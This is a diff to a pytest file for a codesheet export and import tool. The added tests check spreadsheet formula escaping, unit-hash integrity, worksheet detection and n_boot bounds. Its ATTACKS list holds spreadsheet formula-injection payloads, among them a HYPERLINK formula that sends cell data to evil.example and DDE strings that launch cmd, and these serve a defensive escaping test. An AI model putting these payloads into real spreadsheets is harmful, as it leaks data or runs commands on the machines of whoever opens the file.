@@ -117,10 +117,10 @@ def test_stratified_sample_covers_rare_labels_and_every_outlet(cs):
 
 
 SHEET_COLUMNS = {
-    "frames": ["unit_id", "text", "context_before", "context_after", *FRAMES, "note"],
-    "sentiment": ["unit_id", "text", "context_before", "context_after", "sentiment", "note"],
-    "actor-sentiment": ["unit_id", "actor", "text", "context_before", "context_after", "sentiment", "note"],
-    "quotes": ["unit_id", "text", "sentence", "context_before", "context_after", "source_type", "note"],
+    "frames": ["unit_id", "unit_hash", "text", "context_before", "context_after", *FRAMES, "note"],
+    "sentiment": ["unit_id", "unit_hash", "text", "context_before", "context_after", "sentiment", "note"],
+    "actor-sentiment": ["unit_id", "unit_hash", "actor", "text", "context_before", "context_after", "sentiment", "note"],
+    "quotes": ["unit_id", "unit_hash", "text", "sentence", "context_before", "context_after", "source_type", "note"],
 }
 RARE = {"frames": "morality", "sentiment": None, "actor-sentiment": "positive", "quotes": "ngo_advocacy"}
 
@@ -380,3 +380,88 @@ def test_cli_export_and_import(cs, study, tmp_path, capsys):
     assert "krippendorff_alpha" in capsys.readouterr().out
     with pytest.raises(SystemExit):
         parser.parse_args(["codesheet", "export", "tiny", "--measure", "tone", "--n", "3"])
+
+
+# --- spreadsheet safety and unit hashes ----------------------------------------------------------------------------
+
+ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+           "-1+cmd|' /C calc'!A0"]
+
+
+def test_formula_text_is_quoted_in_csv_and_xlsx_and_the_import_takes_the_quote_off(cs, study, tmp_path):
+    sentences = _corpus()["sentences"]
+    sentences["text"] = [f"{ATTACKS[i % len(ATTACKS)]} {i}" for i in range(len(sentences))]
+    storage.write_table(sentences, study.table("sentences"))
+    out = cs.export_codesheet(study, measure="sentiment", n=12)
+    raw = pd.read_csv(out["csv"], dtype=str, keep_default_na=False)
+    for column in ("text", "context_before", "context_after"):
+        shown = raw.loc[raw[column] != "", column]
+        assert len(shown) and shown.str.startswith(("'=", "'+", "'@", "'-")).all(), column
+    units = load_workbook(out["xlsx"])["units"]
+    texts = [row[2] for row in units.iter_rows(min_row=2)]
+    assert all(c.value.startswith("'") and c.data_type == "s" for c in texts)
+    # Coded copies keep the quotes (the coder's spreadsheet shows them as text); the hashes still match.
+    files = [_save(_filled(study, "sentiment"), tmp_path / "anna.csv"),
+             _save(_filled(study, "sentiment"), tmp_path / "ben.xlsx")]
+    table = cs.import_codesheets(study, measure="sentiment", files=files, n_boot=10)
+    assert table.set_index("metric").loc["krippendorff_alpha", "value"] == 1.0
+
+
+def _problems(cs, study, sheet: pd.DataFrame, path: Path) -> list[str]:
+    with pytest.raises(cs.CodesheetError) as error:
+        cs.import_codesheets(study, measure="frames", files=[_save(sheet, path)], n_boot=10)
+    return [line for line in str(error.value).splitlines()[1:]]
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_swapped_unit_ids_and_edited_text_are_caught_by_the_unit_hash(cs, study, tmp_path, suffix):
+    cs.export_codesheet(study, measure="frames", n=16)
+    swapped = _filled(study, "frames")
+    swapped.loc[[0, 1], "unit_id"] = swapped.loc[[1, 0], "unit_id"].to_numpy()
+    lines = _problems(cs, study, swapped, tmp_path / f"anna{suffix}")
+    assert len(lines) == 2 and all(f"anna{suffix}: row {r}, column 'unit_hash':" in line
+                                   for r, line in zip((2, 3), lines)), lines
+    assert "unit ids were moved between rows" in lines[0]
+
+    both = _filled(study, "frames")  # the hash moved with the id: the text no longer matches either
+    both.loc[[0, 1], ["unit_id", "unit_hash"]] = both.loc[[1, 0], ["unit_id", "unit_hash"]].to_numpy()
+    lines = _problems(cs, study, both, tmp_path / f"ben{suffix}")
+    assert len(lines) == 2 and "row 2, columns text, context_before, context_after: the text differs" in lines[0]
+
+    edited = _filled(study, "frames")
+    edited.loc[3, "context_after"] += " And more."
+    (line,) = _problems(cs, study, edited, tmp_path / f"cleo{suffix}")
+    assert line.startswith(f"{tmp_path / f'cleo{suffix}'}: row 5, columns text, context_before, context_after:")
+
+    rewrapped = _filled(study, "frames")  # what a spreadsheet does to whitespace is not an edit
+    rewrapped.loc[3, "text"] = "  " + rewrapped.loc[3, "text"].replace(" ", "\r\n") + " "
+    cs.import_codesheets(study, measure="frames", files=[_save(rewrapped, tmp_path / f"dan{suffix}")], n_boot=10)
+
+
+def test_the_units_worksheet_is_found_by_its_header_not_its_name(cs, study, tmp_path):
+    cs.export_codesheet(study, measure="frames", n=16)
+    codebook = pd.DataFrame({"column": ["conflict"], "label": ["Conflict"], "definition": ["..."],
+                             "allowed values": ["0, 1"]})
+    path = tmp_path / "anna.xlsx"
+    with pd.ExcelWriter(path) as writer:  # the coder renamed the tabs and moved the codebook first
+        codebook.to_excel(writer, sheet_name="units", index=False)
+        _filled(study, "frames").to_excel(writer, sheet_name="Anna's codes", index=False)
+    table = cs.import_codesheets(study, measure="frames", files=[path], n_boot=10)
+    assert table.query("metric == 'macro_f1'")["value"].iloc[0] == 1.0
+    with pd.ExcelWriter(path) as writer:
+        codebook.to_excel(writer, sheet_name="units", index=False)
+    with pytest.raises(cs.CodesheetError, match=r"anna.xlsx: no worksheet has the exported header with a 'unit_id' "
+                                                r"column; worksheets: units$"):
+        cs.import_codesheets(study, measure="frames", files=[path], n_boot=10)
+    with pd.ExcelWriter(path) as writer:
+        _filled(study, "frames").to_excel(writer, sheet_name="a", index=False)
+        _filled(study, "frames").to_excel(writer, sheet_name="b", index=False)
+    with pytest.raises(cs.CodesheetError, match=r"2 worksheets \(a, b\) have the exported header"):
+        cs.import_codesheets(study, measure="frames", files=[path], n_boot=10)
+
+
+def test_import_bounds_n_boot(cs, study, tmp_path):
+    cs.export_codesheet(study, measure="frames", n=16)
+    path = _save(_filled(study, "frames"), tmp_path / "anna.csv")
+    with pytest.raises(AnalysisError, match=r"key 'n_boot' is 9223372036854775807; allowed: 0 <= n_boot <= 100000"):
+        cs.import_codesheets(study, measure="frames", files=[path], n_boot=9223372036854775807)
